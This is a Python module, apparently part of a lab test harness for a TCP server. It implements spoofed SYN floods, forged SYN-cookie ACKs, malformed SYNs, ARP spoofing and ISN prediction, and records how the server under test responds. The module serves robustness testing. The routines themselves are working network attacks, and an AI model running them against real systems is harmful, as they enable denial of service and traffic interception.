"""Attacks made of spoofed frames: SYN flood, forged cookies, odd SYNs
(broadcast sources, pseudo-header checksums, VLAN tags), ARP spoofing, ISNs."""
import random
import struct
import time

from . import packets as P
from . import thrift
from .rawtcp import RawConnection, forward_delta


class SynSource:
    """Spoofed SYNs built fast: per-address IP headers and per-MAC Ethernet headers
    are precomputed and the TCP checksum is updated incrementally."""

    def __init__(self, env, rng, macs=256):
        self.rng = rng
        dst = P.ip_bytes(env["owned"])
        self.dport = env["port"]
        server_mac = P.mac_bytes(env["server_mac"])
        self.eth = [server_mac + P.random_mac(rng) + b"\x08\x00" for _ in range(macs)]
        self.ips = []
        for last in range(100, 251):
            src = P.ip_bytes(env["subnet"] + str(last))
            self.ips.append((P.ipv4(src, dst, 6, b"\0" * 24)[:20], P.ones_sum(src)))
        self.options = P.tcp_options(mss=1460)
        self.middle = struct.pack("!IBBH", 0, 6 << 4, P.SYN, 64240)
        # Everything but the source address, source port and sequence number.
        self.base = P.ones_sum(dst + struct.pack("!BBH", 0, 6, 24)) + self.dport + P.ones_sum(self.middle + self.options)

    def frame(self, ip_index=None, sport=None, seq=None):
        rng = self.rng
        ip_header, ip_sum = self.ips[rng.randrange(len(self.ips)) if ip_index is None else ip_index]
        sport = rng.randrange(1024, 65536) if sport is None else sport
        seq = rng.getrandbits(32) if seq is None else seq
        csum = ~P.fold(self.base + ip_sum + sport + (seq >> 16) + (seq & 0xFFFF)) & 0xFFFF
        tcp = struct.pack("!HHI", sport, self.dport, seq) + self.middle + struct.pack("!HH", csum, 0) + self.options
        return self.eth[rng.randrange(len(self.eth))] + ip_header + tcp


def syn_flood(env, params):
    """`count` spoofed SYNs as fast as the socket takes them (bounded by `seconds`)."""
    rng = random.Random(P.seed())
    tx, source = P.sender(env["ifname"]), SynSource(env, rng)
    count, limit = params["count"], time.monotonic() + params.get("seconds", 60)
    start, sent, errors = time.monotonic(), 0, 0
    while sent < count and time.monotonic() < limit:
        try:
            tx.send(source.frame())
            sent += 1
        except OSError:  # the socket's buffer is full: let the veth drain
            errors += 1
            time.sleep(0.0005)
    elapsed = time.monotonic() - start
    return {"sent": sent, "seconds": round(elapsed, 2), "pps": int(sent / max(elapsed, 1e-6)), "send_errors": errors}


def pace(start, sent, rate):
    """Sleeps until `sent` frames are due at `rate` per second since `start` (every 100)."""
    if sent % 100 == 0:
        time.sleep(max(0.0, start + sent / rate - time.monotonic()))


def forged_acks(env, tx, rng, count, tuples_from, rate):
    """`count` bare ACKs (every third with a framed Thrift call) from fresh spoofed tuples
    with random acknowledgment numbers, none of which ever had a SYN-ACK, `rate` per second."""
    server_mac, dst = P.mac_bytes(env["server_mac"]), P.ip_bytes(env["owned"])
    call = thrift.framed(thrift.echo("forged", seqid=1))
    ports, start = set(), time.monotonic()
    for i in range(count):
        pace(start, i, rate)
        src_ip = P.spoofed_ip(env["subnet"], rng)
        sport = tuples_from + i
        ports.add(sport)
        payload = call if i % 3 == 0 else b""
        flags = P.ACK | (P.PSH if payload else 0)
        tx.send(P.tcp_frame(P.spoof_mac(src_ip), server_mac, P.ip_bytes(src_ip), dst, sport, env["port"],
                            rng.getrandbits(32), rng.getrandbits(32), flags, payload=payload))
    return ports


def forged_cookies(env, params):
    """Forged cookie ACKs, first with the listener calm, then right after a SYN flood past
    its backlog (cookie mode). Any answer other than an RST means a connection exists."""
    rng = random.Random(P.seed())
    tx = P.sender(env["ifname"])
    sniffer = P.Sniffer(env["ifname"], env["owned"], tx, env["subnet"], env["client_ip"])
    P.announce(tx, env)
    sniffer.recv(0.3)
    # Paced so that neither the XSK's RX ring nor the server's queue of stateless replies
    # (RSTs, cookie SYN-ACKs) overflows: every forged ACK is seen and can be answered.
    count, rate = params["count"], params["rate"]
    calm_ports = forged_acks(env, tx, rng, count // 2, 10000, rate)
    calm = sniffer.recv(1.5)
    source, start = SynSource(env, rng), time.monotonic()
    for i in range(params["flood"]):
        pace(start, i, rate)
        tx.send(source.frame(sport=rng.randrange(1024, 9000)))
    hot_ports = forged_acks(env, tx, rng, count - count // 2, 40000, rate)
    hot = sniffer.recv(2.0)
    result = {"forged": count, "flood_syns": params["flood"]}
    for label, ports, segs in (("calm", calm_ports, calm), ("cookie_mode", hot_ports, hot)):
        mine = [s for s in segs if s.dport in ports]
        result[label] = {"rst": sum(1 for s in mine if s.flags & P.RST),
                         "non_rst": sum(1 for s in mine if not s.flags & P.RST),
                         "with_data": sum(1 for s in mine if s.payload)}
    result["flood_tuples_answered"] = len({(s.dst, s.dport) for s in hot
                                           if s.dport < 9000 and s.flags & (P.SYN | P.ACK) == P.SYN | P.ACK})
    return result


def odd_syns(env, params):
    """SYNs that must go unanswered, each with a normal SYN as control. variants:
    list of (label, kind) with kind in bcast-ip, subnet-bcast, mcast-ip, zero-ip,
    bcast-mac, mcast-mac, pseudo-csum, zero-csum, bad-csum, vlan."""
    rng = random.Random(P.seed())
    tx = P.sender(env["ifname"])
    sniffer = P.Sniffer(env["ifname"], env["owned"], tx, env["subnet"], env["client_ip"])
    P.announce(tx, env)
    sniffer.recv(0.3)
    server_mac, dst = P.mac_bytes(env["server_mac"]), P.ip_bytes(env["owned"])
    sent = {}
    for n, kind in enumerate(params["variants"] + ["control"] * 2):
        src_ip, src_mac, csum, vlan = P.spoofed_ip(env["subnet"], rng), P.random_mac(rng), "ok", None
        src_ip = {"bcast-ip": "255.255.255.255", "subnet-bcast": env["subnet"] + "255",
                  "mcast-ip": "224.0.0.1", "zero-ip": "0.0.0.0"}.get(kind, src_ip)
        src_mac = {"bcast-mac": b"\xff" * 6, "mcast-mac": b"\x01\x00\x5e\x00\x00\x01"}.get(kind, src_mac)
        csum = {"pseudo-csum": "pseudo", "zero-csum": 0, "bad-csum": 0x1234}.get(kind, "ok")
        vlan = params.get("vid", 5) if kind == "vlan" else None
        sport = 30000 + n
        for _ in range(params.get("repeat", 3)):
            tx.send(P.tcp_frame(src_mac, server_mac, P.ip_bytes(src_ip), dst, sport, env["port"],
                                rng.getrandbits(32), 0, P.SYN, vlan=vlan, options=P.tcp_options(mss=1460), csum=csum))
        sent[sport] = (kind, src_ip, src_mac)
    segs = sniffer.recv(2.0)
    result = {}
    for sport, (kind, src_ip, src_mac) in sent.items():
        answers = [s for s in segs if s.dport == sport and s.flags & P.SYN]
        entry = result.setdefault(kind, {"sent": 0, "synack_untagged": 0, "synack_tagged": 0})
        entry["sent"] += 1
        entry["synack_untagged"] += sum(1 for s in answers if s.vlan is None)
        entry["synack_tagged"] += sum(1 for s in answers if s.vlan is not None)
        if kind == "control" and answers:  # clean up the half-open connection
            tx.send(P.tcp_frame(src_mac, server_mac, P.ip_bytes(src_ip), dst, sport, env["port"],
                                answers[0].ack, 0, P.RST))
    return result


def arp_spoof(env, params):
    """One unsolicited ARP reply claiming the client's address for a made-up MAC; then
    counts the server's frames to that MAC for `hold` seconds."""
    rng = random.Random(P.seed())
    tx = P.sender(env["ifname"])
    sniffer = P.Sniffer(env["ifname"], env["owned"], tx, env["subnet"])
    fake, server_mac = P.random_mac(rng), P.mac_bytes(env["server_mac"])
    reply = P.arp(2, fake, P.ip_bytes(env["client_ip"]), server_mac, P.ip_bytes(env["owned"]))
    tx.send(P.ethernet(server_mac, fake, P.ETH_P_ARP, reply))
    to_fake = to_client = 0
    end = time.monotonic() + params["hold"]
    while time.monotonic() < end:
        for seg in sniffer.recv(min(0.5, max(0.0, end - time.monotonic()))):
            if seg.dst == env["client_ip"]:
                to_fake += seg.dst_mac == fake
                to_client += seg.dst_mac == P.mac_bytes(env["client_mac"])
    return {"fake_mac": P.mac_text(fake), "frames_to_fake_mac": to_fake, "frames_to_client_mac": to_client}


def isn_predict(env, params):
    """SYN-ACK ISNs of `distinct` different tuples opened back to back, then of one
    tuple `repeats` more times (reset in between)."""
    rng = random.Random(P.seed())
    tx = P.sender(env["ifname"])
    sniffer = P.Sniffer(env["ifname"], env["owned"], tx, env["subnet"], env["client_ip"])
    P.announce(tx, env)
    sniffer.recv(0.3)
    samples, missing = [], 0
    conns = [RawConnection(env, tx, sniffer, rng=rng, sport=41000 + i) for i in range(params["distinct"])]
    conns += [conns[0]] * params["repeats"]
    for conn in conns:
        conn.iss = rng.getrandbits(32)
        synack = conn.syn(2.0)
        if synack is None:
            missing += 1
            continue
        samples.append((time.monotonic(), conn.src_ip, conn.sport, synack.seq))
        conn.reset()
        time.sleep(0.05)
    distinct_deltas, repeat_deltas = [], []
    for (t0, ip0, p0, isn0), (t1, ip1, p1, isn1) in zip(samples, samples[1:]):
        delta = forward_delta(isn0, isn1)
        same = (ip0, p0) == (ip1, p1)
        (repeat_deltas if same else distinct_deltas).append({"delta": delta, "ms": round((t1 - t0) * 1000, 1)})
    window = params.get("window", 1 << 20)
    predicted = sum(1 for d in distinct_deltas if d["delta"] < window) + sum(1 for d in repeat_deltas if d["delta"] == 0)
    return {"samples": len(samples), "no_synack": missing, "isns": [s[3] for s in samples],
            "distinct_deltas": distinct_deltas, "repeat_deltas": repeat_deltas,
            "window": window, "predicted": predicted}
